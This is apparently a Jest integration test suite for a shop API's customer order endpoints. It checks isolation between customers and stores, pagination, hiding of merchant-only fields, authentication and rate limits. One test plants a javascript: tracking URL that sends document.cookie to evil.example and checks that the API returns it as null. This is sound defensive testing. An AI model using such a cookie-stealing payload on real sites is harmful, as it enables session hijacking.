import { beforeAll, describe, expect, test } from '@jest/globals';
import type { CommerceClient } from '@commerce-api/sdk';
import { createProduct } from '../../factories/catalog.factory.js';
import { registerCustomer, signedIn, storefront, type AuthSession } from '../../factories/customer-auth.factory.js';
import { addItems, createDraftOrder, type OrderResource } from '../../factories/draft-order.factory.js';
import { createProject, type CreatedProject } from '../../factories/project.factory.js';
import { json } from '../../setup/http.js';
import { byId } from '../../setup/requests.js';
import { useStore } from '../../setup/store.js';

// Two customers of one store (Ana with three orders, Ben with one), an order of the store placed with Ana's e-mail
// but no customer, and a customer of another store with an order of their own.
const store = useStore({ project: { domain: 'shop.example.com', domain_verified: true, currency: 'EUR' } });
const { app, api } = store;

let ana: AuthSession;
let ben: AuthSession;
let anaOrders: OrderResource[];
let benOrder: OrderResource;
let guestOrder: OrderResource;
let other: CreatedProject;
let cleo: AuthSession;
let cleoOrder: OrderResource;

const me = (session: AuthSession, project: { keys: CreatedProject['keys'] } = store): CommerceClient =>
  signedIn(app, project.keys.publishable_test.token, session.access_token);

/** Completes a draft of one custom item for `customerId` (or no customer) through the merchant's API. */
async function orderFor(merchant: CommerceClient, customerId: string | null, price: number): Promise<OrderResource> {
  const draft = await createDraftOrder(
    merchant,
    customerId
      ? { currency: 'EUR', customer_id: customerId, customer_email: undefined }
      : { currency: 'EUR', customer_email: 'ana@example.com' },
  );
  await addItems(merchant, draft.id, [{ title: 'Gift card', unit_price: price, quantity: 1 }]);
  const completed = await merchant.POST('/v1/draft-orders/{id}/complete', byId(draft.id));
  expect(completed.response.status).toBe(201);
  return completed.data!.data;
}

beforeAll(async () => {
  const shop = storefront(app, store.keys.publishable_test.token);
  ana = await registerCustomer(shop, { email: 'ana@example.com' });
  ben = await registerCustomer(shop, { email: 'ben@example.com' });
  anaOrders = [];
  for (const price of [1000, 2000, 3000]) anaOrders.push(await orderFor(api, ana.customer.id, price));
  benOrder = await orderFor(api, ben.customer.id, 4000);
  guestOrder = await orderFor(api, null, 5000);
  other = await createProject(app, { domain: 'other.example.com' });
  cleo = await registerCustomer(storefront(app, other.keys.publishable_test.token), { email: 'ana@example.com' });
  cleoOrder = await orderFor(app.client(other.keys.secret_test.token), cleo.customer.id, 6000);
});

describe('listCurrentCustomerOrders', () => {
  test("a customer's list holds exactly their own orders, newest first: not another customer's, not a guest order with their e-mail, not another store's", async () => {
    const { data, response } = await me(ana).GET('/v1/me/orders');
    expect(response.status).toBe(200);
    expect(data!.data.map((order) => order.id)).toEqual(anaOrders.map((order) => order.id).reverse());
    expect(data!.pagination).toEqual({ cursor: null, has_more: false, total: 3 });

    const forBen = await me(ben).GET('/v1/me/orders');
    expect(forBen.data!.data.map((order) => order.id)).toEqual([benOrder.id]);
    expect(forBen.data!.pagination.total).toBe(1);

    // The customer of the other store with the same e-mail sees only their store's order.
    const forCleo = await me(cleo, other).GET('/v1/me/orders');
    expect(forCleo.data!.data.map((order) => order.id)).toEqual([cleoOrder.id]);
    const everyId = [...anaOrders, benOrder, guestOrder, cleoOrder].map((order) => order.id);
    expect(new Set(everyId).size).toBe(6);
  });

  test('paginated as the other lists: limit and cursor walk the whole list; a cursor of one customer does not continue another', async () => {
    const first = await me(ana).GET('/v1/me/orders', { params: { query: { limit: 2 } } });
    expect(first.data!.data.map((order) => order.order_number)).toEqual([
      anaOrders[2].order_number,
      anaOrders[1].order_number,
    ]);
    expect(first.data!.pagination).toMatchObject({ has_more: true, total: 3 });
    const cursor = first.data!.pagination.cursor!;
    const second = await me(ana).GET('/v1/me/orders', { params: { query: { limit: 2, cursor } } });
    expect(second.data!.data.map((order) => order.id)).toEqual([anaOrders[0].id]);
    expect(second.data!.pagination).toEqual({ cursor: null, has_more: false, total: 3 });

    const replayed = await me(ben).GET('/v1/me/orders', { params: { query: { limit: 2, cursor } } });
    expect(replayed.response.status).toBe(400);
    expect(replayed.error!.error).toMatchObject({ code: 'invalid_request', field: 'cursor' });

    const tooMany = await me(ana).GET('/v1/me/orders', { params: { query: { limit: 101 } } });
    expect(tooMany.response.status).toBe(400);
    expect(tooMany.error!.error.field).toBe('limit');
  });

  test("each order carries its lines, totals, fulfilments with tracking and refunds, and none of the merchant's fields", async () => {
    const location = store.project.default_location_id;
    const product = await createProduct(api, { title: 'Trail Runner', variants: [{ title: 'EU 42', price: 5000 }] });
    const variantId = product.variants[0].id;
    await api.PUT('/v1/inventory-levels', { body: { variant_id: variantId, location_id: location, available: 5 } });
    const draft = await createDraftOrder(api, {
      currency: 'EUR',
      customer_id: ben.customer.id,
      customer_email: undefined,
    });
    await addItems(api, draft.id, [{ variant_id: variantId, quantity: 2 }]);
    const order = (await api.POST('/v1/draft-orders/{id}/complete', byId(draft.id))).data!.data;
    expect((await api.POST('/v1/orders/{id}/pay', byId(order.id))).response.status).toBe(200);
    const shipped = await api.POST('/v1/orders/{id}/fulfillments', {
      ...byId(order.id),
      body: {
        location_id: location,
        line_items: [{ line_item_index: 0, quantity: 2 }],
        tracking_company: 'DHL',
        tracking_number: '00340434161094042557',
        tracking_url: 'https://www.dhl.de/track?piececode=00340434161094042557',
      },
    });
    expect(shipped.response.status).toBe(201);
    const refunded = await api.POST('/v1/orders/{id}/refunds', {
      ...byId(order.id),
      body: {
        amount: 5000,
        reason: 'Suspected reseller, refund one pair',
        line_items: [{ line_item_index: 0, quantity: 1 }],
      },
    });
    expect(refunded.response.status).toBe(201);

    const { data } = await me(ben).GET('/v1/me/orders');
    const seen = data!.data[0];
    expect(seen.id).toBe(order.id);
    expect(seen).toMatchObject({
      order_number: order.order_number,
      financial_status: 'partially_refunded',
      fulfillment_status: 'fulfilled',
      currency: 'EUR',
      line_items: [{ variant_id: variantId, title: 'Trail Runner', quantity: 2, unit_price: 5000, total: 10000 }],
      subtotal: 10000,
      total: order.total,
      total_refunded: 5000,
      fulfillments: [
        {
          id: shipped.data!.data.id,
          status: 'success',
          line_items: [{ line_item_index: 0, quantity: 2 }],
          tracking_company: 'DHL',
          tracking_number: '00340434161094042557',
          tracking_url: 'https://www.dhl.de/track?piececode=00340434161094042557',
        },
      ],
      refunds: [
        {
          id: refunded.data!.data.id,
          amount: 5000,
          currency: 'EUR',
          line_items: [{ line_item_index: 0, quantity: 1 }],
        },
      ],
    });
    // What only the merchant sees (openapi.yaml, CustomerOrder): absent, not null.
    for (const field of ['customer_id', 'draft_order_id', 'cancel_reason', 'metafields'])
      expect(Object.keys(seen)).not.toContain(field);
    expect(Object.keys(seen.fulfillments[0]).sort()).toEqual([
      'cancelled_at',
      'created_at',
      'id',
      'line_items',
      'status',
      'tracking_company',
      'tracking_number',
      'tracking_url',
      'updated_at',
    ]);
    expect(Object.keys(seen.refunds[0]).sort()).toEqual([
      'amount',
      'created_at',
      'currency',
      'id',
      'line_items',
      'store_credit_amount',
    ]);
    expect(JSON.stringify(seen)).not.toContain('Suspected reseller');
    expect(JSON.stringify(seen)).not.toContain(location);

    const one = await me(ben).GET('/v1/me/orders/{id}', byId(order.id));
    expect(one.data!.data).toEqual(seen);
  });

  test('a tracking URL of another scheme stored before the contract refused it on write answers null, never as a link', async () => {
    const location = store.project.default_location_id;
    const product = await createProduct(api, { title: 'Rain Shell', variants: [{ title: 'M', price: 7000 }] });
    const variantId = product.variants[0].id;
    await api.PUT('/v1/inventory-levels', { body: { variant_id: variantId, location_id: location, available: 2 } });
    const draft = await createDraftOrder(api, {
      currency: 'EUR',
      customer_id: ana.customer.id,
      customer_email: undefined,
    });
    await addItems(api, draft.id, [{ variant_id: variantId, quantity: 2 }]);
    const order = (await api.POST('/v1/draft-orders/{id}/complete', byId(draft.id))).data!.data;
    const shipments = [];
    for (const url of ['https://tracking.example/1', 'HTTP://tracking.example/2'])
      shipments.push(
        await api.POST('/v1/orders/{id}/fulfillments', {
          ...byId(order.id),
          body: { location_id: location, line_items: [{ line_item_index: 0, quantity: 1 }], tracking_url: url },
        }),
      );
    expect(shipments.map((s) => s.response.status)).toEqual([201, 400]); // the write refuses the upper-case scheme
    const second = await api.POST('/v1/orders/{id}/fulfillments', {
      ...byId(order.id),
      body: { location_id: location, line_items: [{ line_item_index: 0, quantity: 1 }] },
    });
    // As rows written before the contract refused other schemes hold them.
    await app.deps.db.fulfillment.update({
      where: { id: second.data!.data.id },
      data: { trackingUrl: 'javascript:fetch("//evil.example/?c="+document.cookie)' },
    });
    const { data } = await me(ana).GET('/v1/me/orders/{id}', byId(order.id));
    expect(data!.data.fulfillments.map((f) => f.tracking_url)).toEqual(['https://tracking.example/1', null]);
    const listed = await me(ana).GET('/v1/me/orders', { params: { query: { limit: 1 } } });
    expect(listed.data!.data[0].fulfillments.map((f) => f.tracking_url)).toEqual(['https://tracking.example/1', null]);
  });

  test('needs the access token: the publishable key alone, or a token of another store, answers 401', async () => {
    const anonymous = await storefront(app, store.keys.publishable_test.token).GET('/v1/me/orders');
    expect(anonymous.response.status).toBe(401);
    const foreign = await signedIn(app, store.keys.publishable_test.token, cleo.access_token).GET('/v1/me/orders');
    expect(foreign.response.status).toBe(401);
  });
});

describe('getCurrentCustomerOrder', () => {
  test("one's own order answers 200 with its lines and totals", async () => {
    const { data, response } = await me(ana).GET('/v1/me/orders/{id}', byId(anaOrders[1].id));
    expect(response.status).toBe(200);
    expect(data!.data).toMatchObject({
      id: anaOrders[1].id,
      order_number: anaOrders[1].order_number,
      line_items: [{ title: 'Gift card', quantity: 1, unit_price: 2000, total: 2000 }],
      subtotal: 2000,
      total: anaOrders[1].total,
      fulfillments: [],
      refunds: [],
    });
  });

  test("another customer's order, a guest order and another store's order answer 404 exactly as an id that names nothing", async () => {
    const missing = await me(ana).GET('/v1/me/orders/{id}', byId('ord_01jd5r0a2c4e6g8j0l2n4q6s8u'));
    expect(missing.response.status).toBe(404);
    const nothing = missing.error;
    expect(nothing).toEqual({ error: { code: 'not_found', message: 'Order not found.' } });
    for (const id of [benOrder.id, guestOrder.id, cleoOrder.id]) {
      const answer = await me(ana).GET('/v1/me/orders/{id}', byId(id));
      expect([id, answer.response.status, answer.error]).toEqual([id, 404, nothing]);
    }
    // And the other way round: Ben cannot read Ana's.
    expect((await me(ben).GET('/v1/me/orders/{id}', byId(anaOrders[0].id))).response.status).toBe(404);
  });
});

describe('storefront budgets', () => {
  test('GET /v1/me/orders spends the storefront budget and its client share (429 past it, policy "client")', async () => {
    const small = await createProject(app, { domain: 'budget.example.com' }, { rate_limit_per_minute: 1000 });
    await app.platform.PATCH('/platform/v1/projects/{id}', {
      params: { path: { id: small.project.id } },
      body: { storefront_rate_limit_per_minute: 50, storefront_client_share_percent: 10 },
    });
    // Wait for a minute with room for the 6 requests below, so they share one window.
    const left = 60 - new Date().getUTCSeconds();
    if (left < 10) await new Promise((resolve) => setTimeout(resolve, left * 1000 + 50));
    const session = await registerCustomer(storefront(app, small.keys.publishable_test.token));
    const get = () =>
      fetch(`${app.baseUrl}/v1/me/orders`, {
        headers: { 'X-API-Key': small.keys.publishable_test.token, Authorization: `Bearer ${session.access_token}` },
      });
    const answers: Response[] = [];
    // A share of 5 (10 % of 50), the registration one of them.
    for (let i = 0; i < 5; i++) answers.push(await get());
    expect(answers.map((answer) => answer.status)).toEqual([200, 200, 200, 200, 429]);
    expect(answers[0].headers.get('ratelimit-policy')).toBe('"storefront";q=50;w=60');
    expect(answers[4].headers.get('ratelimit-policy')).toBe('"client";q=5;w=60');
    expect((await json(answers[4])).error.code).toBe('rate_limited');
  });
});
